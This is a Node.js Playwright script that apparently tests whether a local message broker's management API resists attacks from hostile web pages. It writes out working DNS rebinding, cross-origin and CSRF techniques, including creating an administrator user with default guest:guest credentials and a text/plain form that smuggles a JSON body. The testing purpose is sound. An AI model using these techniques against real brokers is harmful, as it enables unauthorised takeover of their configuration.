// Attacks a broker with pages of a hostile site, in a headless Chromium: node hostile.mjs SITE API
//
// SITE and API are ports of this machine. The name evil.example means this machine, as after DNS rebinding. The program prints the
// outcome of each attack as one line of JSON: a status, or the name of the error that the page sees.
import { chromium as playwright } from 'playwright-core';
import { executablePath } from './chromium.mjs';

const [site, api] = process.argv.slice(2);
const browser = await playwright.launch({
  executablePath: await executablePath(),
  // The default arguments of the package are not used, because they turn off the same-origin policy.
  args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
  headless: true,
});
const authorization = `Basic ${Buffer.from('guest:guest').toString('base64')}`;
const outcomes = {};

// A page whose content the attacker chose, at any address.
async function pageAt(url) {
  const page = await browser.newPage();
  await page.route(url, (route) => route.fulfill({ contentType: 'text/html', body: '<p>hello</p>' }));
  await page.goto(url);
  return page;
}

function request(page, method, url, options = {}) {
  return page.evaluate(
    ([method, url, options]) => fetch(url, { method, ...options }).then((answer) => answer.status || answer.type, (error) => error.name),
    [method, url, options],
  );
}

// DNS rebinding: the page has the broker as its own origin, under its own name.
const rebound = await pageAt(`http://evil.example:${api}/attack`);
for (const [method, path] of [['PUT', '/api/vhosts/rebound'], ['PUT', '/api/users/rebound'], ['GET', '/api/definitions']]) {
  const body = method === 'PUT' ? '{"password": "x", "tags": "administrator"}' : undefined;
  outcomes[`rebinding ${method} ${path}`] = await request(rebound, method, path, { headers: { authorization }, body });
}

// A page of another site asks the broker by its right name.
const cross = await pageAt(`http://evil.example:${site}/attack`);
const target = `http://127.0.0.1:${api}/api`;
outcomes['cross-origin PUT'] = await request(cross, 'PUT', `${target}/vhosts/cross`, { headers: { authorization } });
outcomes['cross-origin POST without preflight'] = await request(cross, 'POST', `${target}/definitions`, {
  mode: 'no-cors', credentials: 'include', body: '{"vhosts": [{"name": "simple"}]}',
});
outcomes['cross-origin GET'] = await request(cross, 'GET', `${target}/definitions`, { headers: { authorization } });
outcomes['WebSocket'] = await cross.evaluate((port) => new Promise((done) => {
  const socket = new WebSocket(`ws://127.0.0.1:${port}/api/overview`);
  socket.onopen = () => done('open');
  socket.onerror = () => done('error');
}), api);
const navigated = cross.waitForResponse((answer) => answer.url().endsWith('/api/definitions') && answer.request().method() === 'POST');
await cross.evaluate((port) => {
  const form = document.createElement('form');
  form.method = 'POST';
  form.enctype = 'text/plain';
  form.action = `http://guest:guest@127.0.0.1:${port}/api/definitions`;
  const field = document.createElement('input');
  field.name = '{"vhosts": [{"name": "form"}], "x": "';
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}, api);
outcomes['form with a password in its address'] = (await navigated).status();

// The control: the same request of the broker's own page succeeds.
const own = await pageAt(`http://localhost:${api}/page`);
outcomes['own page PUT'] = await request(own, 'PUT', '/api/vhosts/own', { headers: { authorization } });
console.log(JSON.stringify(outcomes));
await browser.close();
